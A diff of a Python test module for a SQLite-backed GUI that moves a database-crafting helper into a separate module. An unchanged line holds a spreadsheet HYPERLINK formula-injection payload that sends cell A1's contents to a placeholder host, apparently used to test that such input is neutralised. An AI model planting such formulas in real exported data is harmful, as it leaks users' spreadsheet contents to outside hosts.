@@ -8,7 +8,6 @@ could. The line the user reads is asserted whole.
 from __future__ import annotations
 
 import os
-import shutil
 import signal
 import sqlite3
 import subprocess
@@ -28,6 +27,7 @@ from gui.data.store import Store, StoreError
 from gui.qt.app import open_store
 from gui.qtcommon.i18n import tr
 
+from . import crafted
 from .conftest import ROOT
 
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
@@ -254,16 +254,7 @@ CASES: dict[str, tuple[str | Callable[[sqlite3.Connection], None], str]] = {
 
 
 def craft(built: Path, target: Path, change: str | Callable[[sqlite3.Connection], None]) -> None:
-    shutil.copy(built, target)
-    connection = sqlite3.connect(target)
-    try:
-        if callable(change):
-            change(connection)
-            connection.commit()
-        else:
-            connection.executescript(change)
-    finally:
-        connection.close()
+    crafted.database(built, target, change)
 
 
 @pytest.mark.parametrize("case", sorted(CASES))
